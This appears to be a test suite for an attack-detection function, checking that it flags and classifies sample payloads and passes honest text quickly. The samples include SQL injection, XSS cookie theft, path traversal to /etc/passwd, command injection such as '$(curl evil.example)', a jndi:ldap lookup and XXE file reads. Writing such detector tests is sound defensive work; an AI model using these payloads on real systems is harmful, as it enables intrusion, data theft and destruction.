import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { officialTexts } from '../../../../../bench/official-texts.ts'
import { labelledPayloads, type Payload } from '../../../../../bench/payloads.ts'
import { inspect } from './inspect.ts'

const attacks: Record<string, string[]> = {
  sqli: [
    "1' or '1'='1",
    "admin'--",
    '1) union all select null,version(),3#',
    "x'; waitfor delay '0:0:5'--",
    'id=1 and (select count(*) from users) > 0',
    "1'/**/or/**/1=1/**/--",
    '/*!50000union*/ select 1,2',
    '%31%27%20or%20%27a%27%3d%27a',
    "';drop table users;--",
    '(select(sleep(5)))',
    "') or ('x')=('x",
  ],
  xss: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'java\tscript:alert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    "' onmouseover='alert(document.cookie)",
    '<svg/onload=confirm`1`>',
    '\\u003cscript\\u003ealert(1)',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fwin.ini',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/',
    'C:\\boot.ini',
    '....//....//',
  ],
  cmdi: [
    '; cat /etc/passwd',
    '| id',
    '`/usr/bin/id`',
    '$(curl evil.example)',
    '& ping -n 30 127.0.0.1 &',
    'a;ls${IFS}-la',
  ],
  'code-injection': ['{{7*7}}', '${jndi:ldap://x/a}', "{{''.__class__.__mro__}}", '<?php system("id"); ?>'],
  xxe: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
  nosqli: ['{"$gt": ""}', "' || 1==1//"],
  ldapi: ['*)(uid=*))(|(uid=*'],
  'header-injection': ['x%0d%0aSet-Cookie: a=b'],
}

describe('inspect', () => {
  for (const [family, texts] of Object.entries(attacks)) {
    it.each(texts)(`sees ${family} in %s`, (text) => {
      const { verdict, score, evidence } = inspect(text)
      expect(verdict).toBe('attack')
      expect(score).toBeGreaterThanOrEqual(0.5)
      expect(evidence.length).toBeGreaterThan(0)
    })
  }

  it.each(['sqli', 'xss', 'path-traversal', 'cmdi'])(
    'names the family %s right in most of them',
    (family) => {
      const right = attacks[family]!.filter((text) => inspect(text).family === family).length
      expect(right / attacks[family]!.length).toBeGreaterThan(0.7)
    },
  )

  it('lets honest texts pass that look like attacks', () => {
    const refused = officialTexts(3000, 7).filter((text) => inspect(text).verdict === 'attack')
    expect(refused).toEqual([])
  })

  it('lets our own sentences with placeholders pass', () => {
    expect(inspect('Attached {{file}}, version {{version}}; more weight means more trust.').verdict).toBe(
      'clean',
    )
  })

  it('finds an attack behind 30,000 honest characters', () => {
    const honest = '关于开展城市更新工作的通知。'.repeat(2200)
    expect(inspect(honest).verdict).toBe('clean')
    expect(inspect(`${honest}' union select password from users--`).family).toBe('sqli')
  })

  it('answers any text, and in linear time', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        const { score } = inspect(text)
        expect(score >= 0 && score < 1).toBe(true)
      }),
    )
    const hostile = [
      '<a '.repeat(22_000),
      "'".repeat(65_000),
      '('.repeat(65_000),
      '../'.repeat(20) + 'a'.repeat(65_000),
      '%25'.repeat(21_000),
      'or '.repeat(21_000),
      '[](+!)'.repeat(9_000),
      '/*'.repeat(30_000),
      '{{'.repeat(30_000),
    ]
    for (const text of hostile) {
      const before = performance.now()
      inspect(text)
      expect(performance.now() - before, text.slice(0, 10)).toBeLessThan(400)
    }
  })
})

const heldOut = labelledPayloads('held out')

describe.skipIf(!heldOut)('on the labelled payloads nothing was tuned on', () => {
  const rate = (kind: Payload['kind']): number => {
    const texts = (heldOut ?? []).filter((item) => item.kind === kind)
    return texts.filter(({ payload }) => inspect(payload).verdict === 'attack').length / texts.length
  }

  it('detects what is aimed at and refuses nothing honest', () => {
    expect(rate('sqli')).toBeGreaterThanOrEqual(0.995)
    expect(rate('xss')).toBeGreaterThanOrEqual(0.97)
    expect(rate('path-traversal')).toBeGreaterThanOrEqual(0.95)
    expect(rate('cmdi')).toBeGreaterThanOrEqual(0.88)
    expect(rate('norm')).toBeLessThanOrEqual(0.001)
  })
})
